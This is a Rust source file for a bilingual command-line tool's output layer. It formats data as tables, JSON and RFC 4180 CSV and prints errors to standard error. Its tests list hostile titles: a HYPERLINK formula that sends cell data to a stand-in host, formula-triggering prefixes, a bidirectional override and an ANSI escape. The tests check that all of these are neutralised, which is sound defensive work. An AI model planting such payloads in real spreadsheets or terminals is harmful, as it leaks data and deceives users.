//! What a person or a program reads: data on standard output, talk on standard error, errors as what, why, what now.
use std::io::Write as _;

use comfy_table::{ColumnConstraint, ContentArrangement, Table, Width, presets};
use serde_json::{Value, json};

use crate::domain::characters::{printable, printable_lines};
use crate::domain::json::{shown, shown_line};
use crate::domain::law::words::german;
use crate::domain::reason::{Lang, Reason, Refusal};
use crate::domain::text::inert;
use crate::domain::time::Date;
use crate::usage::refusal::error_text;
use crate::wire::instant;
use crate::wire::pb::Instant;

/// Widest table where no terminal says how wide it is: what fits a window beside another, and a printed page.
pub(in crate::cli) const WIDTH_MAX: u16 = 100;

/// Blanks around a cell.
const PADDING: usize = 2;

/// Digits of an id in a table: by chance two of ten thousand ids begin alike in one of a hundred lists, and then more are
/// asked for.
const SHOWN_DIGITS: usize = 8;

/// The form of data on standard output.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default, clap::ValueEnum)]
pub enum Format {
    /// Tables for people.
    #[value(help = "Tabellen für Menschen")]
    #[default]
    Table,
    /// JSON for programs.
    #[value(help = "JSON für Programme")]
    Json,
    /// Comma-separated values for spreadsheets (RFC 4180), with English column names.
    #[value(help = "CSV für Tabellenprogramme")]
    Csv,
}

/// Where and how to print.
#[derive(Clone, Copy, Debug, Default)]
pub struct Output {
    /// The form.
    pub format: Format,
    /// The language.
    pub lang: Lang,
}

impl Output {
    /// German or English.
    pub fn say<'t>(&self, de: &'t str, en: &'t str) -> &'t str {
        match self.lang {
            Lang::De => de,
            Lang::En => en,
        }
    }

    /// An id in a list: as much of it as commands take, in tables; the whole for programs.
    pub fn short<'i>(&self, id: &'i str) -> &'i str {
        match self.format {
            Format::Table => id.get(..SHOWN_DIGITS).unwrap_or(id),
            Format::Json | Format::Csv => id,
        }
    }

    /// The same as a cell.
    pub fn id(&self, id: &str) -> Value {
        self.short(id).into()
    }

    /// A day as people write it.
    pub fn day(&self, day: Date) -> String {
        if self.lang == Lang::De { german(day) } else { day.to_string() }
    }

    /// A time as a cell: as people read it in a table, and for programs in RFC 3339.
    pub fn time(&self, time: Option<&Instant>) -> Value {
        let Some(time) = time.map(instant) else { return "".into() };
        match self.format {
            Format::Table => time.told(self.lang).into(),
            Format::Json | Format::Csv => time.to_string().into(),
        }
    }

    /// Prints rows: as a table, or as a JSON array of objects with the English column names.
    pub fn rows(&self, columns: &[(&str, &str)], rows: &[Vec<Value>]) -> Result<(), Refusal> {
        match self.format {
            Format::Json => {
                let objects: Vec<Value> = rows
                    .iter()
                    .map(|row| {
                        let pairs = columns.iter().zip(row).map(|((_, en), value)| ((*en).to_owned(), value.clone()));
                        Value::Object(pairs.collect())
                    })
                    .collect();
                data(&(shown(&Value::Array(objects)) + "\n"))
            }
            Format::Table => {
                let width = Table::new().width().unwrap_or(WIDTH_MAX);
                data(&self.table(columns, rows, width))
            }
            Format::Csv => {
                let header = columns.iter().map(|(_, en)| Value::from(*en)).collect();
                let lines = std::iter::once(&header).chain(rows).map(|cells| csv_line(cells));
                data(&lines.collect::<String>())
            }
        }
    }

    /// Rows for people, at most so wide.
    pub(in crate::cli) fn table(&self, columns: &[(&str, &str)], rows: &[Vec<Value>], width: u16) -> String {
        let mut table = Table::new();
        table.load_style(presets::NOTHING).set_content_arrangement(ContentArrangement::Dynamic);
        table.set_width(width);
        table.set_header(columns.iter().map(|(de, en)| self.say(de, en).to_uppercase()));
        for row in rows {
            table.add_row(row.iter().map(|value| bound(&self.plain(value))));
        }
        // Where there is room for the longest word of every column, none is cut in two; elsewhere only the longest are.
        let longest = |text: String| bound(&text).split(' ').map(|word| word.chars().count()).max().unwrap_or(0);
        let widths: Vec<usize> = (0..columns.len())
            .map(|at| {
                let cells = rows.iter().filter_map(|row| row.get(at)).map(|value| longest(self.plain(value)));
                cells.chain([longest(self.say(columns[at].0, columns[at].1).to_owned())]).max().unwrap_or(0) + PADDING
            })
            .collect();
        let cap = cap_of(&widths, usize::from(width));
        for (column, width) in table.column_iter_mut().zip(widths) {
            let width = u16::try_from(width.min(cap)).unwrap_or(WIDTH_MAX);
            column.set_constraint(ColumnConstraint::LowerBoundary(Width::Fixed(width)));
        }
        table.lines().map(|line| format!("{}\n", line.trim_end()).replace(BOUND, " ")).collect()
    }

    /// A value in a table.
    fn plain(&self, value: &Value) -> String {
        match value {
            Value::String(text) => printable(text),
            Value::Null => "–".to_owned(),
            Value::Bool(true) => self.say("ja", "yes").to_owned(),
            Value::Bool(false) => self.say("nein", "no").to_owned(),
            other => other.to_string(),
        }
    }

    /// Prints one thing: its JSON, or its text. As CSV its plain fields are one row.
    pub fn one(&self, value: &Value, text: &str) -> Result<(), Refusal> {
        match self.format {
            Format::Json => data(&(shown(value) + "\n")),
            Format::Csv => {
                let fields = value.as_object().into_iter().flatten();
                let plain = fields.filter(|(_, value)| !value.is_array() && !value.is_object());
                let (names, cells): (Vec<Value>, Vec<Value>) =
                    plain.map(|(name, value)| (Value::from(name.as_str()), value.clone())).unzip();
                data(&format!("{}{}", csv_line(&names), csv_line(&cells)))
            }
            Format::Table => data(&format!("{}\n", printable_lines(text.trim_end()))),
        }
    }

    /// Prints one of many things as they come: its JSON, its plain fields or its text, each in one line.
    pub fn line(&self, value: &Value, text: &str) -> Result<(), Refusal> {
        match self.format {
            Format::Json => data(&(shown_line(value) + "\n")),
            Format::Csv => {
                let fields = value.as_object().into_iter().flatten();
                let plain = fields.filter(|(_, value)| !value.is_array() && !value.is_object());
                data(&csv_line(&plain.map(|(_, value)| value.clone()).collect::<Vec<_>>()))
            }
            Format::Table => data(&format!("{}\n", printable(text))),
        }
    }

    /// Prints a refusal: on standard error for people, as JSON on standard output for programs.
    pub fn refusal(&self, refusal: &Refusal) {
        let (reason, lang) = (refusal.reason, self.lang);
        match self.format {
            Format::Json => {
                let error = json!({"error": {
                    "reason": reason.code(),
                    "class": format!("{:?}", reason.class()),
                    "message": reason.text(lang),
                    "help": reason.help(lang),
                    "metadata": refusal.fields,
                }});
                let _ = data(&(shown(&error) + "\n"));
            }
            Format::Table | Format::Csv => self.talk(&error_text(refusal, lang)),
        }
    }

    /// Says something to the person, not to the program behind the pipe.
    pub fn talk(&self, text: &str) {
        let mut stderr = std::io::stderr().lock();
        // A closed standard error leaves nobody to tell.
        let _ = writeln!(stderr, "{}", printable_lines(text));
    }
}

/// The most that a column may ask for so that all of them fit: what is short stays whole.
fn cap_of(widths: &[usize], room: usize) -> usize {
    let fits = |cap: &usize| widths.iter().map(|width| (*width).min(*cap)).sum::<usize>() <= room;
    let most = widths.iter().copied().max().unwrap_or(0);
    (0..=most).rev().find(fits).unwrap_or(0)
}

/// Stands in a table for a blank at which a line must not end, until the lines are made.
const BOUND: char = '\u{a0}';

/// An amount stays with its currency.
fn bound(text: &str) -> String {
    text.replace(" €", &format!("{BOUND}€"))
}

/// Writes to standard output; a reader that has gone away (`| head`) is no error.
pub fn data(text: &str) -> Result<(), Refusal> {
    let mut stdout = std::io::stdout().lock();
    match stdout.write_all(text.as_bytes()).and_then(|()| stdout.flush()) {
        Err(error) if error.kind() != std::io::ErrorKind::BrokenPipe => {
            Err(Refusal::new(Reason::FileUnwritable).with("file", "stdout").with("problem", error))
        }
        _ => Ok(()),
    }
}

/// A value as spreadsheets may read it; nothing for null. Numbers stay numbers.
fn cell(value: &Value) -> String {
    match value {
        Value::String(text) => inert(&printable_lines(text)),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// One line of CSV (RFC 4180). A cell is quoted where it would otherwise be read as something else.
fn csv_line(cells: &[Value]) -> String {
    let quoted = |cell: String| match cell.contains(['"', ',', ';', '\t', '\n', '\r']) {
        true => format!("\"{}\"", cell.replace('"', "\"\"")),
        false => cell,
    };
    cells.iter().map(|value| quoted(cell(value))).collect::<Vec<_>>().join(",") + "\r\n"
}

#[cfg(test)]
mod tests {
    use proptest::strategy::Strategy as _;

    use super::*;

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 64, ..Default::default() })]

        #[test]
        fn a_table_is_never_too_wide_and_loses_no_letter(
            rows in (1_usize..13).prop_flat_map(|columns| {
                let cell = "[a-zäöüß€ 0-9-]{0,80}|[a-zA-ZÄÖÜ0-9]{60,120}";
                proptest::collection::vec(proptest::collection::vec(cell, columns), 0..4)
            }),
            english: bool,
        ) {
            let out = Output { format: Format::Table, lang: if english { Lang::En } else { Lang::De } };
            let names = [("Veröffentlicht", "published"), ("Rahmenvertragspartner", "party")];
            let count = rows.first().map_or(3, Vec::len);
            let columns: Vec<_> = names.into_iter().cycle().take(count).collect();
            let cells: Vec<Vec<Value>> = rows.iter().map(|row| row.iter().map(|text| json!(text)).collect()).collect();
            let table = out.table(&columns, &cells, WIDTH_MAX);
            let widest = table.lines().map(|line| line.chars().count()).max().unwrap_or(0);
            proptest::prop_assert!(widest <= usize::from(WIDTH_MAX), "{widest}\n{table}");
            let letters = |text: &str| text.chars().filter(|c| !c.is_whitespace()).count();
            let heads: usize = columns.iter().map(|(de, en)| letters(&out.say(de, en).to_uppercase())).sum();
            let all: usize = rows.iter().flatten().map(|text| letters(text)).sum();
            proptest::prop_assert_eq!(letters(&table), heads + all, "{}", table);
        }
    }

    #[test]
    fn an_amount_stays_with_its_currency() {
        let columns = [("Angebot", "offering"), ("Preis", "price"), ("Titel", "title")];
        let long = "Onlinedienst ".repeat(12);
        let rows: Vec<Vec<Value>> =
            [7_940, 1, 12_000_000].map(|cents| vec![json!(long), json!(format!("{cents},00 €")), json!(long)]).into();
        let table = Output::default().table(&columns, &rows, WIDTH_MAX);
        assert!(table.lines().all(|line| !line.trim_start().starts_with('€') && !line.contains(BOUND)), "{table}");
        assert_eq!(table.matches(",00 €").count(), rows.len(), "{table}");
    }

    #[test]
    fn a_cell_with_a_comma_or_a_quote_is_one_cell() {
        let cells = [json!("a"), json!("b, c"), json!("d \"e\""), Value::Null];
        assert_eq!(csv_line(&cells), "a,\"b, c\",\"d \"\"e\"\"\",\r\n");
    }

    /// Titles as strangers have tried them.
    const HOSTILE: [(&str, &str, &str); 8] = [
        (
            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Wohngeld\"\")\"",
            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
        ),
        ("-2+3+cmd", "'-2+3+cmd", "-2+3+cmd"),
        ("@SUM(1+1)", "'@SUM(1+1)", "@SUM(1+1)"),
        ("＝1+1", "'＝1+1", "＝1+1"),
        ("Hund; =1+1", "\"Hund; '=1+1\"", "Hund; =1+1"),
        ("\nabc", "\"\nabc\"", "⟨U+000A⟩abc"),
        (
            "Wohngeld \u{202e}gnubegnarebeis\u{202c}",
            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
        ),
        ("\u{1b}[31mrot", "⟨U+001B⟩[31mrot", "⟨U+001B⟩[31mrot"),
    ];

    #[test]
    fn text_of_others_neither_acts_nor_hides_in_a_spreadsheet_or_a_terminal() {
        for (title, in_csv, in_table) in HOSTILE {
            assert_eq!(csv_line(&[json!(title), json!(-5)]), format!("{in_csv},-5\r\n"));
            assert_eq!(Output::default().plain(&json!(title)), in_table);
            let text = shown(&json!({ "title": title }));
            assert!(!text.chars().any(|c| crate::domain::characters::hides(c) && c != '\n'), "{text}");
            let refusal = Refusal::new(Reason::FieldInvalid).with("value", title);
            let words = error_text(&refusal, Lang::De);
            assert!(words.contains(in_table) && !words.contains(['\u{1b}', '\u{202e}']), "{words}");
        }
    }
}
